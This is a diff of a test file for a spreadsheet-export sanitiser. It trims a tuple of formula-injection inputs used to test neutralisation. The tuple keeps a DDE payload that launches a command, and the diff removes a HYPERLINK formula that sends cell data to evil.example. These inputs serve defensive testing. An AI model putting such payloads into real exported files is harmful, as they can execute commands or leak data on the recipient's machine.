@@ -19,19 +19,7 @@ from boxwright.tabular import neutral, restored
 SIGNS = "=+-@\t\r\n＝＋－＠"
 TEXTS = st.text(st.sampled_from([*SIGNS, "'", '"', ",", ";", " ", "a", "1"]), max_size=8) | st.text(max_size=20)
 
-ATTACKS = (
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "'=1+1",
-    "''@a",
-    "-5",
-    "＝1+1",
-    "'quoted'",
-    "O'Neill",
-)
+ATTACKS = ("=cmd|' /C calc'!A0", "-5", "''@a", "＝1+1", "'quoted'", "O'Neill")
 
 
 @settings(max_examples=50)
